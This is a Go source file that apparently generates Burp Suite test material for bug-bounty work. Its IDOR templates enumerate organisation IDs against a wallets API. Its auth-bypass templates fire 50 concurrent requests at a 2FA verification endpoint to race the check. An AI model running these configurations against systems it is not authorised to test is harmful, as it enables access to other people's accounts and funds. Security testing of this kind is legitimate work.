package research

import (
	"fmt"
	"strings"
)

// PayloadSet bundles generated Burp Suite material for one vulnerability
// category and parameter.
type PayloadSet struct {
	IntruderPayload  string `json:"intruder_payload"`
	RepeaterTemplate string `json:"repeater_template"`
	Methodology      string `json:"methodology"`
}

// BurpPayloads generates Burp Suite payloads for automated testing. The
// idor and auth_bypass categories carry dedicated templates; anything else
// gets a generic placeholder set.
func BurpPayloads(category, parameter string) PayloadSet {
	switch category {
	case CategoryIDOR:
		return PayloadSet{
			IntruderPayload: strings.TrimSpace(fmt.Sprintf(`
# Burp Suite Intruder Configuration
# Target: /api/v2/organizations/§%s§/wallets
# Attack Type: Sniper
# Payload Type: Numbers
# Number range: 1-1000
# Number format: Decimal
# Payload processing: Add grep match for "balance", "wallet", "success"

# Alternative payload list:
1
2
100
1000
1001
admin
test
demo
guest
root
system
default
`, parameter)),
			RepeaterTemplate: fmt.Sprintf(`GET /api/v2/organizations/1/wallets HTTP/1.1
Host: target.com
Authorization: Bearer {token}
User-Agent: BugBounty-Research/1.0
Accept: application/json

# Test with different %s values:
# Sequential: 1, 2, 3... 1000
# Predictable: admin, test, demo
# Negative: -1, 0
# Large: 999999, 1000000`, parameter),
			Methodology: "1. Identify parameter, 2. Set payload positions, 3. Configure number range, 4. Analyze response differences",
		}
	case CategoryAuthBypass:
		return PayloadSet{
			IntruderPayload: strings.TrimSpace(`
# Race Condition Testing
# Target: /api/v2/auth/2fa/verify
# Attack Type: Pitchfork (multiple parameters)
# Threads: 50 concurrent requests
# Payload: {"otp_code": "123456", "session_id": "§session§"}
`),
			RepeaterTemplate: `POST /api/v2/auth/2fa/verify HTTP/1.1
Host: target.com
Content-Type: application/json

{"otp_code": "123456", "user_id": "test", "session_token": "session_123"}`,
			Methodology: "1. Capture 2FA request, 2. Configure race condition, 3. Send concurrent requests, 4. Analyze success rates",
		}
	default:
		return PayloadSet{
			IntruderPayload:  fmt.Sprintf("# Generic payload for %s testing", category),
			RepeaterTemplate: fmt.Sprintf("# Template for %s parameter: %s", category, parameter),
			Methodology:      fmt.Sprintf("Standard methodology for %s vulnerability testing", category),
		}
	}
}
